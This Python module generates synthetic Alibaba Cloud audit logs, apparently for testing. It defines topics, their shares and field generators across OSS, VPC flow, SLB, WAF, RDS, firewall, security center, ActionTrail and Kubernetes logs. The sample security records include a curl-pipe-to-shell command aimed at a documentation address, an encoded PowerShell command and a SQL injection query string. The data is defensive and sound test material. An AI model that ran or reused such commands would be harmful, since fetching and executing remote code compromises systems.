"""The audit logs of Alibaba Cloud as data: topics, their share of the volume, their fields, and how values look.

Addresses are those reserved for documentation (RFC 5737) and private ones; names and ids are invented.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from random import Random

Value = str | Callable[[Random], str]


@dataclass(frozen=True, slots=True)
class Topic:
    name: str
    logstore: str
    share: float  # of the mix, in percent by count
    fields: dict[str, Value]
    source: str = "log_service"


def _digits(count: int) -> Callable[[Random], str]:
    return lambda random: "".join(random.choices("0123456789", k=count))


def _hex(count: int) -> Callable[[Random], str]:
    return lambda random: f"{random.getrandbits(count * 4):0{count}x}"


def _pick(*values: str) -> Callable[[Random], str]:
    return lambda random: random.choice(values)


def _number(low: int, high: int) -> Callable[[Random], str]:
    return lambda random: str(random.randint(low, high))


def _outside(random: Random) -> str:
    return f"{random.choice(('198.51.100', '203.0.113', '192.0.2'))}.{random.randint(1, 254)}"


def _inside(random: Random) -> str:
    return f"10.{random.randint(0, 31)}.{random.randint(0, 255)}.{random.randint(1, 254)}"


_USER = _pick("alice", "bob", "carol", "ops-bot", "张伟", "李娜")
_METHOD = _pick("GET", "GET", "GET", "POST", "PUT", "DELETE")
_STATUS = _pick("200", "200", "200", "204", "301", "404", "500", "-")
_OWNER = "1234567890123456"
_REGION = _pick("cn-hangzhou", "cn-shanghai", "ap-southeast-1")


def _path(random: Random) -> str:
    words = (random.choice(("api", "v1", "orders", "login", "static", "img", "users")) for _ in range(2))
    return f"/{'/'.join(words)}/{random.getrandbits(48):x}?t={random.getrandbits(64)}"


def _object(random: Random) -> str:
    name = random.choice(("a%2Fb", "logs%2F2026%2F01%2F01", "%E5%9B%BE%E7%89%87"))
    return random.choice((f"{name}%2F{random.getrandbits(96):x}.gz", f"{name}-{random.getrandbits(64)}.txt", "-"))


def _agent(random: Random) -> str:
    minor = random.randint(90, 140)
    return random.choice(
        (
            f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{minor}.0.0.0",
            f"aliyun-sdk-go/2.{minor % 10}.{minor % 23} (Linux/5.10.{minor}/x86_64;go1.22)",
            "curl/8.5.0",
            "-",
        )
    )


def _sql(random: Random) -> str:
    table, number = random.choice(("orders", "users", "payments")), random.randint(1, 10**6)
    return random.choice(
        (
            f"SELECT * FROM {table} WHERE id={number}",
            f'UPDATE {table} SET note="it\'s\n\tfine" WHERE id IN ({number}, {number + 1}) -- 备注',
            f"INSERT INTO {table} (a, b) VALUES ({number}, 'x\\\\y')",
        )
    )


def _actiontrail(random: Random) -> str:
    """An ActionTrail event: a JSON string, with JSON in a string in it."""
    name, service = random.choice(
        (("AuthorizeSecurityGroup", "Ecs"), ("ConsoleSignin", "AasCustomer"), ("PutBucketAcl", "Oss"))
    )
    parameters = {
        "PortRange": f"{random.randint(1, 65535)}/22",
        "SourceCidrIp": "0.0.0.0/0",
        "RegionId": _REGION(random),
    }
    event = {
        "eventId": _hex(32)(random),
        "eventVersion": "1",
        "eventCategory": "Management",
        "eventType": "ConsoleSignin" if name == "ConsoleSignin" else "ApiCall",
        "eventName": name,
        "eventRW": random.choice(("Write", "Read")),
        "eventSource": f"{service.lower()}.aliyuncs.com",
        "serviceName": service,
        "acsRegion": _REGION(random),
        "eventTime": "2026-01-01T00:00:01Z",
        "sourceIpAddress": _outside(random),
        "userAgent": _agent(random),
        "requestId": _hex(32)(random).upper(),
        "errorCode": random.choice(("", "", "NoPermission")),
        "requestParameterJson": json.dumps(parameters),
        "userIdentity": {
            "type": "ram-user",
            "accountId": _OWNER,
            "principalId": _digits(18)(random),
            "userName": _USER(random),
        },
        "additionalEventData": {"mfaChecked": "false", "loginAccount": "alice@example.com"},
    }
    return json.dumps(event, ensure_ascii=False)


def _kubernetes_user(random: Random) -> str:
    return json.dumps(
        {"username": f"system:serviceaccount:{_USER(random)}", "groups": ["system:authenticated"]}, ensure_ascii=False
    )


TOPICS: tuple[Topic, ...] = (
    Topic(
        "oss_access_log",
        "oss_log",
        35,
        {
            "bucket": _pick("backup-prod", "static-assets", "audit-archive"),
            "object": _object,
            "operation": _pick("GetObject", "PutObject", "HeadObject", "ListObjects"),
            "http_method": _METHOD,
            "http_status": _STATUS,
            "error_code": _pick("-", "-", "NoSuchKey"),
            "access_id": lambda random: f"LTAI5t{random.getrandbits(80):x}",
            "requester_id": _digits(18),
            "client_ip": _outside,
            "User-Agent": _agent,
            "request_id": _hex(24),
            "request_uri": _path,
            "sign_type": _pick("NotSign", "NormalSign", "UriSign"),
            "response_time": _number(1, 900),
            "server_cost_time": _number(1, 400),
            "content_length_in": "-",
            "content_length_out": _number(0, 10**7),
            "sync_request": "-",
            "vpc_id": _number(1, 10**9),
            "owner_id": _OWNER,
        },
    ),
    Topic(
        "flow_log",
        "vpc_log",
        20,
        {
            "version": "1",
            "vswitch-id": _pick("vsw-bp1a", "vsw-bp1b"),
            "vm-id": lambda random: f"i-bp1{random.getrandbits(64):x}",
            "vpc-id": "vpc-bp1",
            "account-id": _OWNER,
            "eni-id": lambda random: f"eni-bp1{random.getrandbits(64):x}",
            "srcaddr": _inside,
            "srcport": _number(1, 65535),
            "dstaddr": _inside,
            "dstport": _number(1, 65535),
            "protocol": _pick("6", "17", "1"),
            "direction": _pick("in", "out"),
            "packets": _number(1, 5000),
            "bytes": _number(40, 10**7),
            "start": "1767225540",
            "end": "1767225600",
            "action": _pick("ACCEPT", "ACCEPT", "REJECT"),
            "log-status": _pick("OK", "OK", "NODATA"),
        },
    ),
    Topic(
        "slb_layer7_access_log",
        "slb_log",
        15,
        {
            "client_ip": _outside,
            "client_port": _number(1024, 65535),
            "host": "www.example.com",
            "http_host": "www.example.com",
            "http_user_agent": _agent,
            "request_method": _METHOD,
            "request_uri": _path,
            "status": _STATUS,
            "upstream_addr": lambda random: f"{_inside(random)}:80, {_inside(random)}:80",
            "request_id": _hex(32),
            "upstream_status": _pick("200", "502, 200", "-"),
            "request_time": _pick("0.002", "0.118", "1.907"),
            "slbid": "lb-bp1",
            "slb_vport": "443",
            "vip_addr": "203.0.113.10",
            "ssl_protocol": "TLSv1.3",
            "tcpinfo_rtt": _number(100, 90000),
        },
    ),
    Topic(
        "waf_access_log",
        "waf_log",
        10,
        {
            "matched_host": "*.example.com",
            "host": "shop.example.com",
            "real_client_ip": _outside,
            "remote_addr": _outside,
            "remote_port": _number(1024, 65535),
            "request_method": _METHOD,
            "request_path": _path,
            "querystring": _pick("u=1%27%20or%201=1", "q=%E6%B5%8B%E8%AF%95", "-"),
            "http_cookie": lambda random: f"sid={random.getrandbits(160):x}; theme=dark",
            "http_user_agent": _agent,
            "status": _STATUS,
            "upstream_status": "-",
            "request_time_msec": _number(1, 3000),
            "request_traceid": _hex(32),
            "final_action": _pick("block", "", "captcha"),
            "final_plugin": _pick("waf", "", "cc"),
            "final_rule_id": _pick("113341", ""),
            "final_rule_type": _pick("sqli", "xss", ""),
        },
    ),
    Topic(
        "rds_audit_log",
        "rds_log",
        8,
        {
            "instance_id": "rm-bp1x",
            "instance_name": "订单库",
            "db_type": "mysql",
            "db_version": "8.0",
            "db": "orders",
            "user": _pick("app_rw", "root", "report"),
            "client_ip": _inside,
            "sql": _sql,
            "fail": _pick("0", "0", "1"),
            "latency": _number(50, 10**6),
            "check_rows": _number(0, 10**5),
            "return_rows": _number(0, 1000),
            "update_rows": _number(0, 10),
            "thread_id": _number(1, 9999),
            "origin_time": "1767225601000000",
        },
    ),
    Topic(
        "cloudfirewall_access_log",
        "cloudfirewall_log",
        6,
        {
            "log_type": "internet_log",
            "direction": _pick("in", "out"),
            "src_ip": _outside,
            "src_port": _number(1024, 65535),
            "dst_ip": "203.0.113.10",
            "dst_port": _pick("22", "443", "3389"),
            "ip_protocol": "TCP",
            "app_name": _pick("SSH", "HTTPS", "Unknown"),
            "rule_result": _pick("pass", "alert", "drop"),
            "ips_rule_name": _pick("SSH暴力破解", "Log4j2远程代码执行", ""),
            "ips_rule_name_en": _pick("SSH brute force", "Log4j2 RCE", ""),
            "vul_level": _number(1, 3),
            "total_packet_bytes": _number(40, 10**6),
            "start_time": "1767225590",
            "end_time": "1767225601",
            "aliuid": _OWNER,
        },
    ),
    Topic(
        "sas-security-log",
        "sas_log",
        1,
        {
            "data_source": "aegis_suspicious_event",
            "level": _pick("serious", "suspicious", "remind"),
            "name": _pick("Webshell", "异常登录", "Mining"),
            "op": _pick("new", "dealing"),
            "status": "1",
            "uuid": _hex(32),
            "detail": lambda random: json.dumps({"loginSourceIp": _outside(random), "path": "C:\\Windows\\Temp"}),
            "unique_info": _hex(32),
        },
    ),
    Topic(
        "aegis-log-crack",
        "sas_log",
        1,
        {
            "uuid": _hex(32),
            "ip": _inside,
            "warn_ip": _outside,
            "warn_port": "22",
            "warn_type": _pick("SSHLOGIN", "RDPLOGIN"),
            "warn_user": _pick("root", "administrator"),
            "warn_count": _number(1, 500),
        },
    ),
    Topic(
        "aegis-log-process",
        "sas_log",
        1,
        {
            "uuid": _hex(32),
            "cmdline": _pick("/bin/sh -c 'curl http://203.0.113.7/x | sh'", 'powershell -enc "SQBFAFgA"'),
            "filename": _pick("sh", "powershell.exe"),
            "filepath": _pick("/bin/sh", "C:\\Windows\\System32\\powershell.exe"),
            "pid": _number(1, 99999),
            "ppid": _number(1, 99999),
            "username": _USER,
        },
    ),
    Topic(
        "actiontrail_audit_event",
        "actiontrail_log",
        2,
        {"owner_id": _OWNER, "event": _actiontrail},
        "actiontrail_internal",
    ),
    Topic(
        "k8s_audit_log",
        "k8s_log",
        1,
        {
            "auditID": _hex(32),
            "stage": "ResponseComplete",
            "verb": _pick("get", "list", "create", "delete"),
            "requestURI": _path,
            "user": _kubernetes_user,
            "sourceIPs": lambda random: json.dumps([_inside(random)]),
            "objectRef": '{"resource":"pods","namespace":"default","name":"web-0"}',
            "responseStatus": '{"metadata":{},"code":200}',
            "requestReceivedTimestamp": "2026-01-01T00:00:01.000000Z",
            "annotations": '{"authorization.k8s.io/decision":"allow","authorization.k8s.io/reason":""}',
            "requestObject": lambda random: json.dumps(
                {"spec": {"containers": [{"name": _hex(8)(random)} for _ in range(30)]}}
            ),
        },
    ),
)

BY_NAME = {topic.name: topic for topic in TOPICS}
